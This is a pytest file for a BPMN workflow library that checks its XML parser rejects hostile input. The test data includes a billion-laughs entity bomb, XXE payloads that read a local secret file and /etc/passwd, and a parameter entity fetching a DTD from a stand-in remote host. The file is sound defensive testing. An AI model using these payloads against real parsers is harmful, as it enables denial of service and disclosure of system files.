"""Hardened parsing: hostile XML is refused quickly, nothing is expanded, read or fetched."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from apg_workflow.formats.bpmn import read_bpmn
from apg_workflow.formats.errors import FormatError

MODEL = "http://www.omg.org/spec/BPMN/20100524/MODEL"
BODY = (
    f'<definitions xmlns="{MODEL}" id="d">'
    '<process id="p"><startEvent id="s" name="&x;"/></process></definitions>'
)


def _refused(data: str | bytes) -> FormatError:
    with pytest.raises(FormatError) as caught:
        read_bpmn(data, source="hostile.bpmn")
    return caught.value


def test_billion_laughs_is_refused_fast_without_expanding() -> None:
    entities = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    bomb = f'<?xml version="1.0"?>\n<!DOCTYPE definitions [{"".join(entities)}]>\n' + BODY.replace(
        "&x;", "&lol9;"
    )
    started = time.perf_counter()
    error = _refused(bomb)
    assert time.perf_counter() - started < 0.5
    assert "DOCTYPE/entity declarations are not allowed" in str(error)
    assert "lol" not in str(error)
    assert error.problems[0].line == 2


def test_external_entity_never_reads_the_file(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    xxe = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file://{secret}">]>' + BODY
    error = _refused(xxe)
    assert "TOP-SECRET-CONTENT" not in str(error)
    assert "DOCTYPE/entity declarations are not allowed" in str(error)
    xxe_passwd = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + BODY
    assert "root:" not in str(_refused(xxe_passwd))


def test_parameter_entity_fetching_a_url_is_refused() -> None:
    remote = '<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://198.51.100.7/evil.dtd"> %remote;]>' + BODY
    started = time.perf_counter()
    error = _refused(remote)
    assert time.perf_counter() - started < 0.5
    assert error.problems[0].code == "security"


def test_any_doctype_is_refused_even_behind_comments_and_in_utf16() -> None:
    assert "DOCTYPE" in str(_refused(f"<?xml version='1.0'?>\n<!-- hello -->\n<!DOCTYPE definitions>{BODY}"))
    utf16 = f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE definitions>{BODY}'.encode("utf-16")
    assert "DOCTYPE" in str(_refused(utf16))


def test_truncated_xml_reports_line_and_column() -> None:
    truncated = (
        f'<?xml version="1.0"?>\n<definitions xmlns="{MODEL}" id="d">\n  <process id="p">\n    <task id="t"'
    )
    error = _refused(truncated)
    problem = error.problems[0]
    assert "not well-formed" in problem.message
    assert problem.line == 4 and problem.column is not None and problem.column > 1
    assert problem.source == "hostile.bpmn"


def test_undefined_entity_reference_is_a_syntax_error() -> None:
    assert "not well-formed" in str(_refused(BODY))


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        (
            '<definitions xmlns="http://www.omg.org/spec/DMN/20180521/MODEL/" id="d"/>',
            "root element is <definitions>",
        ),
        (f'<process xmlns="{MODEL}" id="p"/>', "root element is <process>"),
        ("<definitions/>", "without a namespace"),
    ],
)
def test_a_root_other_than_bpmn_definitions_is_refused(document: str, expected: str) -> None:
    error = _refused(document)
    assert expected in str(error) and "not a BPMN 2.0 file" in str(error)


def test_empty_input_is_a_clear_error() -> None:
    assert "not well-formed" in str(_refused(b""))
